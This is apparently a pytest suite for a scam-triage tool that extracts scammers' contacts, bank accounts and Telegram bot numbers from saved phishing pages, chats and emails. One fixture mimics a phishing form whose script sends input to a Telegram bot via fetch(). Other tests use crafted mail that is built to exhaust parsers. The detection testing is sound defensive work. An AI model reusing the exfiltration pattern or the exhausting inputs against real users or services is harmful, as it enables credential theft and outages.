"""Contacts and facts of a saved page, listed by the program itself in each format, charset and language."""

import base64
import json
from pathlib import Path

import pytest

from scamtriage.cli.saved_pages.saved_page import _pages, read_saved
from tests.cli.running import run, run_alone
from tests.cost import least_cpu_s

PAGE = "<title>Bank</title><p>Call +66 81 234 5678 or <a href='https://wa.me/60123456789'>WhatsApp</a>"


@pytest.fixture
def page(tmp_path: Path) -> str:
    (tmp_path / "page.html").write_text(PAGE)
    return str(tmp_path / "page.html")


def test_contacts_of_a_saved_page_are_listed_in_each_format(page: str) -> None:
    found = json.loads(run("contacts", page, "--format", "json").stdout)
    assert {(c["kind"], c["value"]) for c in found} >= {("phone", "+66812345678"), ("whatsapp", "+60123456789")}
    lines = run("contacts", page, "--format", "ndjson").stdout.splitlines()
    assert [json.loads(line) for line in lines] == found
    table = run("contacts", page).stdout
    assert "+66812345678" in table and "WhatsApp" in table


def test_the_table_shows_the_flags_of_a_contact_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    (tmp_path / "page.html").write_text("<p>Call +1-888-555-0123 now, or +66 81 234 5678")
    [found] = [one for one in json.loads(run("contacts", str(tmp_path / "page.html"), "--format", "json").stdout) if one.get("flags")]
    assert found["flags"] == ["fictitious"]
    lines = [line for line in run("contacts", str(tmp_path / "page.html")).stdout.splitlines() if "nobody answers it" in line]
    assert len(lines) == 1 and "+18885550123" in lines[0]


def test_contacts_of_a_page_from_a_pipe_are_read_in_the_charset_that_is_named() -> None:
    done = run_alone("contacts", "-", "--url", "https://shop.example.co.th/", "--charset", "utf-8", stdin="<p>โทร 081-234-5678")
    assert "+66812345678" in done.stdout


@pytest.mark.parametrize(
    "said", ["saved from url=(0021)https://x.example.co.th/ ", "\n Page saved with SingleFile \n url: https://x.co.th/ \n"]
)
def test_a_saved_page_says_itself_where_it_came_from(said: str) -> None:
    assert "+66812345678" in run("contacts", "-", "--charset", "utf-8", stdin=f"<!DOCTYPE html><!--{said}--><p>Tel 081-234-5678").stdout


def test_where_a_page_came_from_has_to_be_an_address(page: str) -> None:
    done = run("contacts", page, "--url", "not a url!!")
    assert (done.returncode, done.stdout) == (2, "") and "--url" in done.stderr


@pytest.mark.parametrize("charset", ["foo", "utf-7", "utf-8; x=1"])
def test_a_charset_that_nobody_knows_is_refused_with_examples(page: str, charset: str) -> None:
    done = run("contacts", page, "--charset", charset)
    assert (done.returncode, done.stdout) == (2, "") and "tis-620 (windows-874)" in done.stderr


@pytest.mark.parametrize("charset", ["TIS-620", "utf8", "windows-874"])
def test_a_charset_may_be_written_in_every_way_that_pages_write_it(page: str, charset: str) -> None:
    assert "+66812345678" in run("contacts", page, "--charset", charset).stdout


def records(page: str) -> list[dict[str, str]]:
    """What JSON says of a page, the same as NDJSON and with -q, which leaves no hint on stderr."""
    told = [run("contacts", "-", "--format", format, "-q", stdin=page) for format in ("json", "ndjson")]
    assert [done.stderr for done in told] == ["", ""]
    found: list[dict[str, str]] = json.loads(told[0].stdout)
    assert [json.loads(line) for line in told[1].stdout.splitlines()] == found
    return found


def test_json_says_of_a_page_that_was_not_wholly_read_that_its_contacts_are_unknown() -> None:
    long = f"<p>{'hello this is a page ' * 500_000}<p>Call +66 81 234 5678"
    assert records("<p>hello, this is all that stands here") == []
    assert {(one["kind"], one["value"], one["where"]) for one in records(long)} == {("unread", "", "page")}
    [bare] = records("<p>hi")
    assert bare["kind"] == "unread" and "hardly any text" in bare["reason"]
    called, text, file = records(f"<p>Call +66 89 999 1234</p>{long}")
    assert (called["value"], text["kind"], file["kind"]) == ("+66899991234", "unread", "unread")
    assert "looked through for contacts" in text["reason"] and "only its first 4,000,000 bytes" in file["reason"]


def test_json_says_which_pictures_of_codes_were_not_searched() -> None:
    [one] = records('<p>hello, this is all that stands here</p><img src="/img/qr.png" alt="qr">')
    assert (one["kind"], one["where"], one["outcome"], one["url"]) == ("unread", "qr image", "not-asked", "img/qr.png")


def test_a_bot_that_takes_what_is_typed_is_told_by_its_number_and_never_by_its_secret() -> None:
    secret = "AAH" + "s3cret_X" * 4
    send = f"fetch('https://api.telegram.org/bot7612345678:{secret}/sendMessage')"
    apart = f"const t = '6612345678:{secret}'; send(t)"
    page = f"<p>sign in with your account and password here<form><input type=password></form><script>{send};{apart}</script>"
    found = run("contacts", "-", "--format", "json", stdin=page).stdout
    assert {(one["kind"], one["value"]) for one in json.loads(found)} == {("telegram-bot", "7612345678"), ("telegram-bot", "6612345678")}
    table = run("contacts", "-", stdin=page).stdout
    assert "Telegram bot" in table and "7612345678" in table and "no contact" not in table
    assert "s3cret" not in found + table


@pytest.mark.parametrize(
    "page",
    [
        "<p>Write to https://api.telegram.org/bot&lt;token&gt;/sendMessage as our manual says, and read the answer",
        "<script>fetch('https://api.telegram.org/bot' + token + '/sendMessage')</script><p>the shop sends orders to its owner",
        "<p>Order 7612345678: AA batteries, to be sent to the shop in the old town by Friday",
    ],
)
def test_without_a_number_no_bot_is_named(page: str) -> None:
    assert "telegram-bot" not in run("contacts", "-", "--format", "json", stdin=page).stdout


def test_a_page_without_contacts_says_so() -> None:
    assert run("contacts", "-", stdin="<p>hello, this is all that stands here").stdout == "no contact was found on the page\n"


def test_contacts_and_facts_are_said_in_a_language_and_what_was_not_seen_is_unknown(tmp_path: Path) -> None:
    from scamtriage.knowledge.speech import speech

    (tmp_path / "page.html").write_text("<p>โทร 1202 หรือ 081-234-5678 <a href='https://line.me/ti/p/~dsi_x'>LINE</a>")
    page = str(tmp_path / "page.html")
    thai = speech("th")
    said = run("contacts", page, "--lang", "th", "--url", "https://a.co.th/").stdout
    assert all(word in said for word in (thai.word("contact", "hotline"), thai.word("contact", "phone"), thai.word("where", "link")))
    assert not any(word in said for word in ("hotline", "phone", "mobile", "personal", "short"))
    as_json = ("contacts", page, "--format", "json")
    assert run(*as_json, "--lang", "th").stdout == run(*as_json).stdout
    (tmp_path / "bare.html").write_text("<p>hi")
    unseen = run("contacts", str(tmp_path / "bare.html"), "--lang", "th").stdout
    assert unseen.startswith(thai.say("unknown which contacts the page gives: {why}", why="").strip()) and "unknown" not in unseen
    assert thai.word("evidence", "not asked in mode offline") in run("lookup", "dns", "a.example", "--offline", "--lang", "th").stdout


@pytest.mark.parametrize("charset", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_chat_is_searched_as_a_page_is(charset: str, tmp_path: Path) -> None:
    said = "23:41\tPloy\tโทร 081-234-5678 <Media omitted>\r\n23:42\tPloy\tID Line: somchai88\r\n23:43\tPloy\tบัญชี กสิกร 123-4-56789-0\r\n"
    (tmp_path / "chat.txt").write_bytes(said.encode(charset))
    found = json.loads(run("contacts", str(tmp_path / "chat.txt"), "--format", "json").stdout)
    assert {(one["kind"], one["value"]) for one in found} == {
        ("phone", "+66812345678"),
        ("line", "somchai88"),
        ("bank-account", "1234567890"),
    }


def values(tmp_path: Path, name: str, said: bytes) -> set[tuple[str, str]]:
    (tmp_path / name).write_bytes(said)
    found = json.loads(run("contacts", str(tmp_path / name), "--format", "json").stdout)
    return {(one["kind"], one["value"]) for one in found if one["kind"] != "unread"}  # parts of a mail are not read


def test_the_signs_of_a_text_are_letters_and_its_lines_are_lines(tmp_path: Path) -> None:
    said = """From: Desk <desk@evil-mail.top>
if a<b then telegram @bad_guy1 c>d
บัญชี กสิกร 123-4-56789-0
02-123-4567 เบอร์ออฟฟิศ
<!-- LINE ID: hidden99
WhatsApp +855 12 345 678 -->
"""
    assert values(tmp_path, "chat.txt", said.encode()) >= {
        ("email", "desk@evil-mail.top"),
        ("telegram", "bad_guy1"),
        ("bank-account", "1234567890"),
        ("line", "hidden99"),
        ("whatsapp", "+85512345678"),
    }


@pytest.mark.parametrize(
    ("charset", "said", "contact"),
    [
        ("gb18030", "联系微信号：abc_888 电话：138 1234 5678\n请加QQ：123456789\n", ("wechat", "abc_888")),
        ("big5", "聯絡LINE：abc_888 電話：0912-345-678\n", ("line", "abc_888")),
        ("cp874", "โทร 081-234-5678\nไลน์ abc_888\n", ("line", "abc_888")),
    ],
)
@pytest.mark.parametrize("head", ["", "From: desk@evil-mail.top\nContent-Type: text/plain\n\n"])
def test_a_short_text_in_a_local_charset_is_read_in_it_and_that_is_said(
    tmp_path: Path, charset: str, said: str, contact: tuple[str, str], head: str
) -> None:
    name = "a.eml" if head else "chat.txt"
    (tmp_path / name).write_bytes((head + said).encode(charset))
    done = run("contacts", str(tmp_path / name), "--format", "json")
    assert contact in {(one["kind"], one["value"]) for one in json.loads(done.stdout)}
    assert "was read as" in done.stderr and "--charset" in done.stderr


@pytest.mark.parametrize("before", ["HTTP/1.1 200 OK\r\n\r\n<html><body>", "<p>", " <h2>", "<ul><li>", "<!-- saved --> ", "<strong>"])
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_a_page_under_another_name_is_a_page(tmp_path: Path, before: str, charset: str) -> None:
    said = f"{before}<b>LINE ID</b>: <b>dsi_case99</b> <i title='a@b.top'>x"
    assert values(tmp_path, "page.txt", said.encode(charset)) == {("line", "dsi_case99")}


def test_a_chat_with_names_in_angle_brackets_is_none(tmp_path: Path) -> None:
    said = "<scam_desk> add me\n<scam_desk> telegram @bad_guy1\n<victim> a<b\n"
    assert values(tmp_path, "chat.log", said.encode()) == {("telegram", "bad_guy1")}


MAIL = """From: =?utf-8?B?4Lio4Li54LiZ4Lii4LmM?= <desk@evil-mail.top>
To: victim@bank.example
Subject: x
Content-Type: multipart/mixed; boundary=a

--a
Content-Type: multipart/alternative; boundary=b

--b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{plain}
--b
Content-Type: text/html; charset=tis-620
Content-Transfer-Encoding: quoted-printable

<b>LINE ID</b>: <b>dsi=5Fcase99</b> <p>=E2=B7=C3 081-234-5678<!--
--b--
--a
Content-Type: message/rfc822

From: inner@evil-inner.top
Subject: y

WhatsApp +855 12 345 678
--a
Content-Type: text/html

<a href=3D"https://t.me/bad_guy1">x</a> <a href="https://t.me/bad_guy2">x</a>
--a
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

{plain}
--a--
"""
PACKED = base64.b64encode("บัญชี กสิกร 123-4-56789-0".encode()).decode()
OF_MAIL = {
    ("email", "desk@evil-mail.top"), ("bank-account", "1234567890"), ("line", "dsi_case99"), ("phone", "+66812345678"),
    ("email", "inner@evil-inner.top"), ("whatsapp", "+85512345678"), ("telegram", "bad_guy2"),
}  # fmt: skip


@pytest.mark.parametrize("before", ["", "Received: by mail.example; Mon, 30 Nov 2026 01:00:00 +0700\n" * 500, "\ufeff", "\r\n"])
@pytest.mark.parametrize("name", ["a.eml", "a.txt"])
def test_a_mail_is_searched_as_its_reader_sees_it_and_its_recipient_is_no_contact(tmp_path: Path, before: str, name: str) -> None:
    assert values(tmp_path, name, (before + MAIL.format(plain=PACKED)).encode()) == OF_MAIL


def test_a_mail_with_pictures_has_a_sender_too(tmp_path: Path) -> None:
    parts = "--a\nContent-Type: text/html\n\n<b>LINE ID</b>: dsi_case99\n--a\nContent-Type: image/png\nContent-ID: <x>\n\nx\n--a--\n"
    mail = f"From: desk@evil-mail.top\nTo: victim@bank.example\nContent-Type: multipart/related; boundary=a\n\n{parts}"
    assert values(tmp_path, "a.eml", mail.encode()) == {("email", "desk@evil-mail.top"), ("line", "dsi_case99")}


def test_each_mail_of_a_mailbox_is_searched(tmp_path: Path) -> None:
    between = "From a@b.example Mon Nov 30 01:00:00 2026\n"
    box = between + MAIL.format(plain=PACKED) + "\n" + between + "From: last@evil-last.top\nSubject: x\n\nLINE ID: last_one9\n"
    assert values(tmp_path, "a.mbox", box.encode()) == {*OF_MAIL, ("email", "last@evil-last.top"), ("line", "last_one9")}


@pytest.mark.parametrize(
    "body", ["", "no headers at all: LINE ID: dsi_case99", "Content-Type: multipart/mixed\n\n--a\nLINE ID: dsi_case99"]
)
def test_what_is_badly_made_of_a_mail_is_read_as_it_stands(tmp_path: Path, body: str) -> None:
    found = values(tmp_path, "a.eml", f"From: desk@evil-mail.top\n{body}\n\nWhatsApp +855 12 345 678\n".encode())
    assert ("whatsapp", "+85512345678") in found


@pytest.mark.parametrize(
    "mail",
    [
        b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\n\n" * 300_000,
        b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 40_000,
        b"Content-Type: message/rfc822\n\n" * 60_000,
        b"From a 00:00:00 \n" * 120_000,
        b"X: " + b"=?utf-8?B?4Lio?= " * 100_000,
        b"Subject: " + b"=?utf-8?B?4Lio?= " * 3_000 + b"\n\n",
        b"MIME-Version: 1.0\n\n" + b" \n" * 600_000,
        b"\r" * 2_000_000,
        b"MIME-Version: 1.0\n\n" + b"<" * 1_900_000,
    ],
)
def test_a_hostile_mail_costs_little(mail: bytes) -> None:
    assert least_cpu_s(lambda: _pages(mail, "a.eml", "", [], print), within=1.0) < 1.0


def test_a_mail_of_many_pages_of_numbers_costs_no_more_than_its_pages_may(tmp_path: Path) -> None:
    """2 s each, of which so many are read; numbers that may be accounts were 15 s."""
    numbers = "".join(f"บช {n % 1_000:03d}-4-34{n % 1_000:03d}-6 " for n in range(9_000))
    parts = "".join(f"--b\nContent-Type: text/html; charset=utf-8\n\n<p>{numbers}\n" for _ in range(8))
    mail = f"From: a@b.top\nContent-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n".encode()
    (tmp_path / "a.eml").write_bytes(mail)
    assert least_cpu_s(lambda: read_saved(tmp_path / "a.eml", "", "", tell=print), within=6.0, tries=3) < 6.0


def part(kind: str, body: str) -> str:
    return f"Content-Type: {kind}\n\n{body}\n"


def holding(boundary: str, *parts: str, kind: str = "mixed") -> str:
    inner = "".join(f"--{boundary}\n{one}" for one in parts)
    return f"Content-Type: multipart/{kind}; boundary={boundary}\n\n{inner}--{boundary}--\n"


PNG = "Content-Type: image/png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n"
ID = part("text/plain", "LINE ID: dsi_case99")
CODED = "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n" + base64.b64encode(b"LINE ID: dsi_case99").decode() + "\n"
NOTHING = holding("z")
UNREAD = "parts of the mail, such as attachments, were not read; whether the rest holds more contacts is unknown"


@pytest.mark.parametrize("length", [1, 30_000])
def test_a_mail_that_was_forwarded_as_an_attachment_is_read_to_its_pictures(tmp_path: Path, length: int) -> None:
    own = holding("c", holding("d", holding("e", CODED, kind="alternative"), PNG, kind="related"))
    forwarded = part("message/rfc822", f"X-Way: {'x' * length}\nFrom: desk@evil-mail.top\n{own}")
    mail = f"From: desk@bank.example\n{holding('a', part('text/plain', 'see this'), forwarded)}"
    assert ("line", "dsi_case99") in values(tmp_path, "a.eml", mail.encode())


@pytest.mark.parametrize(
    "parts",
    [
        [ID, PNG],
        [ID, "Content-Type: application/pdf\n\n%PDF-1.4\n"],
        [ID, "Content-Type: text/plain\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 a\n"],
        [ID, *[part("text/html", "<p>hello")] * 9],
        [ID, *[part("text/plain", "hello")] * 200],
        [ID, *[NOTHING] * 200, ID],
        [ID, part("multipart/mixed", "no boundary is said")],
    ],
)
def test_what_is_not_read_of_a_mail_is_said(tmp_path: Path, parts: list[str]) -> None:
    (tmp_path / "a.eml").write_text(f"From: desk@evil-mail.top\n{holding('a', *parts)}")
    done = run("contacts", str(tmp_path / "a.eml"))
    assert "dsi_case99" in done.stdout
    assert UNREAD in done.stderr


@pytest.mark.parametrize("parts", [[ID], [ID, "Content-Type: application/pkcs7-signature\n\nx\n"], [ID, part("text/css", "p {}")]])
def test_a_mail_that_is_read_to_its_end_is_said_to_be_nothing_else(tmp_path: Path, parts: list[str]) -> None:
    (tmp_path / "a.eml").write_text(f"From: desk@evil-mail.top\n{holding('a', *parts)}")
    assert "unknown" not in run("contacts", str(tmp_path / "a.eml")).stderr


def test_the_recipients_of_a_long_mailbox_are_no_contacts(tmp_path: Path) -> None:
    mail = "From a@b.example Mon Nov 30 01:00:00 2026\nFrom: desk@evil-mail.top\nTo: victim@bank.example\n\nhello\n\n"
    (tmp_path / "a.mbox").write_text(mail * 300)
    done = run("contacts", str(tmp_path / "a.mbox"), "--format", "json")
    assert [(one["kind"], one["value"]) for one in json.loads(done.stdout)] == [("email", "desk@evil-mail.top"), ("unread", "")]
    assert UNREAD in done.stderr


@pytest.mark.parametrize("said", ["LINE ID: dsi_case99", "LINE ID: dsi_case99\n\nhello", "Note: x\nLINE ID: dsi_case99\n\nhello"])
def test_a_line_of_a_mail_that_looks_like_the_beginning_of_another_hides_nothing(tmp_path: Path, said: str) -> None:
    between = "From a@b.example Mon Nov 30 01:00:00 2026\n"
    box = f"{between}From: desk@evil-mail.top\nTo: victim@bank.example\n\nhello\n{between}{said}\n\n{between}From: last@evil-last.top"
    assert values(tmp_path, "a.mbox", box.encode()) == {
        ("email", "desk@evil-mail.top"),
        ("line", "dsi_case99"),
        ("email", "last@evil-last.top"),
    }


def test_a_part_that_is_not_read_behind_such_a_line_is_told(tmp_path: Path) -> None:
    between = "From a@b.example Mon Nov 30 01:00:00 2026\n"
    parts = holding("a", part("text/plain", f"hello\n\n{between}bye"), CODED)
    (tmp_path / "a.mbox").write_text(f"{between}From: desk@evil-mail.top\nMIME-Version: 1.0\n{parts}", encoding="utf-8")
    done = run("contacts", str(tmp_path / "a.mbox"))
    assert UNREAD in done.stderr


def test_a_mail_of_plain_text_and_pictures_is_read(tmp_path: Path) -> None:
    mail = f"From: desk@evil-mail.top\nMIME-Version: 1.0\n{holding('a', ID, PNG, kind='related')}"
    assert values(tmp_path, "a.eml", mail.encode()) == {("email", "desk@evil-mail.top"), ("line", "dsi_case99")}


def test_links_that_a_filter_wrapped_lead_to_contacts_all_the_same(tmp_path: Path) -> None:
    links = (
        "https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Ft.me%2Fbad_guy1&data=5",
        "https://secure-web.cisco.com/1S1h_Cy8Q_Oh-5N7AuDE0/https%3A%2F%2Fwa.me%2F85512345678",
    )
    page = "".join(f"<a href='{link}'>x</a>" for link in links)
    assert values(tmp_path, "a.html", page.encode()) == {("telegram", "bad_guy1"), ("whatsapp", "+85512345678")}


def test_a_chat_about_a_tag_is_no_page(tmp_path: Path) -> None:
    said = "what does <br> mean?\nmail <desk@evil-mail.top>\n"
    assert values(tmp_path, "chat.txt", said.encode()) == {("email", "desk@evil-mail.top")}


@pytest.mark.parametrize("before", ["", "a", "ab"])
def test_a_long_chat_that_was_cut_within_a_letter_is_in_utf8_all_the_same(tmp_path: Path, before: str) -> None:
    (tmp_path / "chat.txt").write_text(f"{before}\nLINE ID: dsi_case99\n" + "ก" * 1_400_000)
    done = run("contacts", str(tmp_path / "chat.txt"))
    assert "dsi_case99" in done.stdout and "were read" in done.stderr
    assert "UTF-8" not in done.stderr


@pytest.mark.parametrize("chars", range(65_530, 65_560))
def test_a_long_text_of_a_mail_is_not_parted_within_a_number(tmp_path: Path, chars: int) -> None:
    said = "x" * (chars - 20) + " LINE ID: dsi_case99 \n"
    assert values(tmp_path, "a.eml", f"From: desk@evil-mail.top\n\n{said}".encode()) >= {("line", "dsi_case99")}
